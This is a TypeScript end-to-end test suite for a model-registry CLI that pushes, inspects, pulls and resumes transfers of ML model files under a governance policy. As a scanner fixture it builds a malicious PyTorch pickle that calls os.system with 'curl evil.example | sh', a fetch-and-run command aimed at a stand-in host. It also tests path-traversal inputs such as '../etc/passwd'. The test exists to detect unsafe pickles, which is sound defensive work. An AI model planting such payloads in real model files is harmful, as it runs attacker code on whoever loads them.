/**
 * End to end: a model directory with safetensors, GGUF, a harmless pickle and a PyTorch zip whose
 * pickle calls os.system (generated here, never loaded) pushed with `wharf model push`,
 * inspected, judged by the ready model-governance policy, pulled in part; resumed pushes and pulls.
 */
import { after, before, describe, it, mock } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { modelCommand } from './model.ts';
import { startTestRegistry, type TestRegistry } from '../../test/support/registry-fixture.ts';
import { RegistryClient } from '../client/registry-client.ts';
import { pullModel, pushModel, PUSH_STATE_FILE, safeRelativePath, scanModelDirectory } from '../client/models.ts';
import { dangerousPickle, ggufFile, harmlessPickle, pytorchZip, safetensorsFile } from '../content/models/testing/model-fixtures.ts';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '../..');

async function run(argv: string[]): Promise<{ code: number; out: string; error?: Error }> {
  const lines: string[] = [];
  const log = mock.method(console, 'log', (...args: unknown[]) => { lines.push(args.join(' ')); });
  const errors = mock.method(console, 'error', (...args: unknown[]) => { lines.push(args.join(' ')); });
  const stderr = mock.method(process.stderr, 'write', () => true);
  try {
    return { code: await modelCommand(argv), out: lines.join('\n') };
  } catch (error) {
    return { code: -1, out: lines.join('\n'), error: error as Error };
  } finally {
    log.mock.restore();
    errors.mock.restore();
    stderr.mock.restore();
  }
}

const sha256 = (bytes: Buffer) => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;

describe('wharf model push / inspect / pull against Wharf with the model-governance policy', () => {
  let registry: TestRegistry;
  let folder: string, modelDir: string, host: string;
  const files: Record<string, Buffer> = {
    'model.safetensors': safetensorsFile({ 'embed.weight': { dtype: 'BF16', shape: [256, 64] }, 'norm.weight': { dtype: 'BF16', shape: [64] } }),
    'model-q8.gguf': ggufFile([['general.architecture', 'string', 'llama'], ['general.file_type', 'u32', 7]], [{ name: 'token_embd.weight', shape: [64, 256], type: 8 }]),
    'optimizer.pt': harmlessPickle(),
    'pytorch_model.bin': pytorchZip(dangerousPickle('curl evil.example | sh')),
    'README.md': Buffer.from('---\nlicense: apache-2.0\nmodel_name: tiny-llama\n---\n# Tiny llama\n'),
    'config.json': Buffer.from(JSON.stringify({ architectures: ['LlamaForCausalLM'], model_type: 'llama', torch_dtype: 'bfloat16' })),
  };

  before(async () => {
    registry = await startTestRegistry();
    host = new URL(registry.url).host;
    folder = await mkdtemp(join(tmpdir(), 'wharf-model-'));
    modelDir = join(folder, 'model');
    await mkdir(modelDir);
    for (const [name, bytes] of Object.entries(files)) await writeFile(join(modelDir, name), bytes);
  });
  after(async () => {
    await registry?.close();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  async function trustModel(repository: string, digest: string): Promise<any> {
    for (let attempt = 0; attempt < 100; attempt++) {
      const response = await fetch(`${registry.url}/api/v1/repositories/${repository}/manifests/${digest}/trust`);
      const body = response.ok ? await response.json() as any : await response.text();
      if (response.ok && body.model) return body.model;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error('the model facts never reached the trust document');
  }

  it('push packs one layer per file with a ModelPack config derived from the headers', async () => {
    const result = await run(['push', modelDir, `${host}/ml/llama:v1`]);
    assert.equal(result.code, 0, result.error?.stack ?? result.out);
    assert.match(result.out, /6 files: 6 uploaded/);
    assert.match(result.out, /DANGEROUS: pytorch_model\.bin: loading runs os\.system/);
    const manifest = await (await fetch(`${registry.url}/v2/ml/llama/manifests/v1`, { headers: { accept: 'application/vnd.oci.image.manifest.v1+json' } })).json() as any;
    assert.equal(manifest.artifactType, 'application/vnd.cncf.model.manifest.v1+json');
    assert.equal(manifest.layers.length, 6);
    const byPath = Object.fromEntries(manifest.layers.map((layer: any) => [layer.annotations['org.cncf.model.filepath'], layer]));
    assert.equal(byPath['model.safetensors'].digest, sha256(files['model.safetensors']!));
    assert.equal(byPath['model.safetensors'].mediaType, 'application/vnd.cncf.model.weight.v1.raw');
    assert.equal(byPath['README.md'].mediaType, 'application/vnd.cncf.model.doc.v1.raw');
    const config = await (await fetch(`${registry.url}/v2/ml/llama/blobs/${manifest.config.digest}`)).json() as any;
    assert.equal(config.descriptor.name, 'tiny-llama');
    assert.deepEqual(config.descriptor.licenses, ['apache-2.0']);
    assert.equal(config.config.architecture, 'llama');
    assert.equal(config.config.format, 'safetensors');
    assert.equal(config.config.precision, 'bf16');
    assert.ok(!existsSync(join(modelDir, PUSH_STATE_FILE)) || !(await readFile(join(modelDir, PUSH_STATE_FILE), 'utf8')).includes('"uploads":{"sha'), 'no upload left open');
  });

  it('the trust document and `wharf model inspect` carry the model facts and the dangerous import', async () => {
    const manifest = await fetch(`${registry.url}/v2/ml/llama/manifests/v1`, { method: 'HEAD', headers: { accept: 'application/vnd.oci.image.manifest.v1+json' } });
    const digest = manifest.headers.get('docker-content-digest')!;
    const model = await trustModel('ml/llama', digest);
    assert.equal(model.family, 'modelpack');
    assert.equal(model.parameters, 256 * 64 + 64, 'safetensors (16448) and GGUF (16384) carry the same model: the larger per-format sum');
    assert.deepEqual([...model.formats].sort(), ['gguf', 'pickle', 'pytorch-zip', 'safetensors']);
    assert.equal(model.quantization, 'Q8_0');
    assert.deepEqual(model.findings.map((finding: any) => [finding.path, finding.severity, finding.imports]), [['pytorch_model.bin', 'dangerous', ['os.system']]]);
    const optimizer = model.files.find((file: any) => file.path === 'optimizer.pt');
    assert.deepEqual(optimizer.pickle.dangerous, []);
    const inspected = await run(['inspect', `${host}/ml/llama:v1`]);
    assert.equal(inspected.code, 0, inspected.error?.stack ?? inspected.out);
    assert.match(inspected.out, /read by the registry/);
    assert.match(inspected.out, /model\.safetensors .* safetensors 2 tensors, 16448 params/);
    assert.match(inspected.out, /optimizer\.pt .* pickle imports: collections\.OrderedDict, torch\._utils\._rebuild_tensor_v2, torch\.FloatStorage/);
    assert.match(inspected.out, /DANGEROUS: pytorch_model\.bin/);
    const json = await run(['inspect', '--json', `${host}/ml/llama:v1`]);
    assert.equal(JSON.parse(json.out).model.findings[0].imports[0], 'os.system');
  });

  it('the ready policy refuses the pull of the model with the dangerous pickle and allows the clean one, which reuses every blob', async () => {
    const source = await readFile(join(root, 'policies/model-governance/policy.rego'), 'utf8');
    const created = await fetch(`${registry.url}/api/v1/policies/model-governance`, {
      method: 'PUT', headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ package: 'wharf.policies.model_governance', modules: [{ file: 'policy.rego', source }], binding: { points: ['push', 'pull'], namespaces: ['ml'] } }),
    });
    assert.equal(created.status, 201, await created.text());
    const refused = await run(['pull', `${host}/ml/llama:v1`, join(folder, 'refused')]);
    assert.ok(refused.error, refused.out);
    assert.match(refused.error.message, /403/);
    assert.match(refused.error.message, /MODEL_DANGEROUS_PICKLE/);
    // The same directory pushed again is refused at push time.
    const pushRefused = await run(['push', modelDir, `${host}/ml/llama:v1-again`]);
    assert.match(pushRefused.error?.message ?? '', /MODEL_DANGEROUS_PICKLE/);

    await rm(join(modelDir, 'pytorch_model.bin'));
    const clean = await run(['push', '--json', modelDir, `${host}/ml/llama:v2`]);
    assert.equal(clean.code, 0, clean.error?.stack ?? clean.out);
    const summary = JSON.parse(clean.out);
    assert.equal(summary.skippedFiles, 5, 'every file is already in the registry');
    assert.equal(summary.uploadedFiles, 0, 'only the new config is uploaded');
    assert.ok(summary.bytesSent < 2048, `sent ${summary.bytesSent} bytes`);
    await writeFile(join(modelDir, 'pytorch_model.bin'), files['pytorch_model.bin']!);
  });

  it('pull fetches only the included files, each verified', async () => {
    const target = join(folder, 'partial-pull');
    const result = await run(['pull', `${host}/ml/llama:v2`, target, '--include', '*.safetensors', '--include', 'README.md']);
    assert.equal(result.code, 0, result.error?.stack ?? result.out);
    assert.deepEqual((await readdir(target)).sort(), ['README.md', 'model.safetensors']);
    assert.deepEqual(await readFile(join(target, 'model.safetensors')), files['model.safetensors']);
    assert.match(result.out, /2 files from ml\/llama@sha256:[0-9a-f]{64}, .* 3 not included/);
    const again = await run(['pull', `${host}/ml/llama:v2`, target, '--include', 'README.md']);
    assert.match(again.out, /present +README\.md/);
  });

  it('an interrupted push resumes from the acknowledged chunk; an interrupted pull resumes its partial file', async () => {
    const dir = join(folder, 'resume');
    await mkdir(dir);
    const weights = randomBytes(300_000);
    await writeFile(join(dir, 'big.safetensors.bin'), weights);
    const client = new RegistryClient(host);
    // An earlier run got 128 KiB acknowledged, then stopped: its session is in the state file.
    const [file] = await scanModelDirectory(dir);
    const start = await fetch(`${registry.url}/v2/lab/resume/blobs/uploads/`, { method: 'POST' });
    const location = new URL(start.headers.get('location')!, registry.url);
    const first = await fetch(location, { method: 'PATCH', body: weights.subarray(0, 131_072), headers: { 'content-type': 'application/octet-stream', 'content-range': '0-131071' } });
    assert.equal(first.status, 202);
    await writeFile(join(dir, PUSH_STATE_FILE), JSON.stringify({ files: {}, uploads: { [file!.digest]: new URL(first.headers.get('location')!, registry.url).toString() } }));
    const pushed = await pushModel(client, 'lab/resume', 'v1', dir, { chunkSize: 65_536 });
    assert.equal(pushed.resumedFiles, 1);
    assert.ok(pushed.bytesSent < 300_000 - 131_072 + 4096, `sent ${pushed.bytesSent}`);
    const blob = Buffer.from(await (await fetch(`${registry.url}/v2/lab/resume/blobs/${file!.digest}`)).arrayBuffer());
    assert.deepEqual(blob, weights);

    // A pull that stopped after its first part: the part is kept, the rest fetched, the whole verified.
    const target = join(folder, 'resume-pull');
    await mkdir(target);
    const partial = Buffer.alloc(weights.length);
    weights.copy(partial, 0, 0, 65_536);
    await writeFile(join(target, 'big.safetensors.bin.partial'), partial);
    await writeFile(join(target, 'big.safetensors.bin.partial.json'), JSON.stringify({ digest: file!.digest, size: weights.length, partSize: 65_536, done: [0] }));
    const pulled = await pullModel(client, 'lab/resume', 'v1', target, { partSize: 65_536, streams: 3 });
    assert.deepEqual(pulled.files.map((entry) => [entry.path, entry.status]), [['big.safetensors.bin', 'resumed']]);
    assert.equal(pulled.bytesReceived, weights.length - 65_536);
    assert.deepEqual(await readFile(join(target, 'big.safetensors.bin')), weights);
    assert.ok(!existsSync(join(target, 'big.safetensors.bin.partial.json')));

    // A corrupt partial part is caught by the digest check, and nothing is left behind.
    await writeFile(join(target, 'x'), '');
    await rm(join(target, 'big.safetensors.bin'));
    await writeFile(join(target, 'big.safetensors.bin.partial'), Buffer.alloc(weights.length, 7));
    await writeFile(join(target, 'big.safetensors.bin.partial.json'), JSON.stringify({ digest: file!.digest, size: weights.length, partSize: 65_536, done: [0] }));
    await assert.rejects(pullModel(client, 'lab/resume', 'v1', target, { partSize: 65_536 }), /downloaded bytes have digest/);
    assert.ok(!existsSync(join(target, 'big.safetensors.bin.partial')));
  });

  it('push packs files behind symlinks (Hugging Face snapshots) and skips dot files and nested dot folders', async () => {
    const dir = join(folder, 'snapshot');
    await mkdir(join(dir, '.cache'), { recursive: true });
    await mkdir(join(dir, 'sub'));
    await writeFile(join(folder, 'blob-1'), files['model.safetensors']!);
    await symlink(join(folder, 'blob-1'), join(dir, 'sub', 'model.safetensors'));
    await writeFile(join(dir, '.cache', 'x'), 'ignored');
    await writeFile(join(dir, '.gitattributes'), 'ignored');
    const scanned = await scanModelDirectory(dir);
    assert.deepEqual(scanned.map((file) => [file.path, file.digest]), [['sub/model.safetensors', sha256(files['model.safetensors']!)]]);
  });

  it('file paths that would leave the target directory are refused', () => {
    for (const path of ['../etc/passwd', '/etc/passwd', 'a/../../b', 'a\\b', '', 'a//b']) assert.equal(safeRelativePath(path), undefined, path);
    assert.equal(safeRelativePath('weights/model.safetensors'), 'weights/model.safetensors');
  });
});

describe('wharf model inspect against a registry without Wharf\'s trust API', () => {
  it('reads the headers itself through Range requests', async () => {
    const registry = await startTestRegistry({ WHARF_SUPPLYCHAIN_ENABLED: 'false' });
    const folder = await mkdtemp(join(tmpdir(), 'wharf-model-plain-'));
    try {
      await writeFile(join(folder, 'model.safetensors'), safetensorsFile({ w: { dtype: 'F16', shape: [128, 128] } }));
      await writeFile(join(folder, 'weights.pt'), pytorchZip(dangerousPickle()));
      await writeFile(join(folder, 'LICENSE'), 'MIT License\n\nPermission is hereby granted, free of charge, to any person');
      const host = new URL(registry.url).host;
      await pushModel(new RegistryClient(host), 'plain/model', 'v1', folder);
      const inspected = await run(['inspect', '--json', `${host}/plain/model:v1`]);
      assert.equal(inspected.code, 0, inspected.error?.stack ?? inspected.out);
      const body = JSON.parse(inspected.out);
      assert.equal(body.source, 'client');
      assert.equal(body.model.parameters, 128 * 128);
      assert.equal(body.model.precision, 'f16');
      assert.deepEqual(body.model.licenses, ['MIT']);
      assert.deepEqual(body.model.findings.map((finding: any) => [finding.path, finding.imports]), [['weights.pt', ['os.system']]]);
    } finally {
      await registry.close();
      await rm(folder, { recursive: true, force: true });
    }
  });
});
